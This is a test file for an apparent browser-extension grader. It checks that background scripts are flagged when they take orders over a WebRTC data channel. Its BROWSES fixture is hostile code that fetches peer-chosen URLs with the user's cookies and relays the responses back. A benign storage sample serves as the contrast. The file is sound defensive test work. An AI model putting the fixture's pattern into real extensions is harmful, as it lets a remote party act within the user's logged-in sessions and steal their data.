import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const BROWSES =
  "async (e) => { const job = JSON.parse(e.data);\nconst r = await fetch(job.u, { method: job.m, credentials: 'include' });\nchannel.send(await r.text()); }";
const SHARES =
  'async (e) => { const { name } = JSON.parse(e.data);\nchrome.storage.local.set({ name });\nchannel.send("ok"); }';

const WAYS = [
  ['opened by the peer', 'peer.ondatachannel = ({ channel }) => { channel.onmessage = WORK; };'],
  [
    'opened by the peer and kept',
    'let channel;\npeer.addEventListener("datachannel", (e) => { channel = e.channel; channel.onmessage = WORK; });',
  ],
  ['opened here', 'const channel = peer.createDataChannel("x");\nchannel.addEventListener("message", WORK);'],
] as const;
const program = (way: string, work: string): string =>
  `const peer = new RTCPeerConnection({});\n${way.replace('WORK', () => work)}`;

it.each(WAYS)('takes what comes through a channel for orders: %s', async (_what, way) => {
  expect(await graded({ background: program(way, BROWSES) })).toMatch(/[DF]/);
});

it.each(WAYS)('leaves alone who shares by a channel: %s', async (_what, way) => {
  expect(await graded({ background: program(way, SHARES) })).toMatch(/^A/);
});
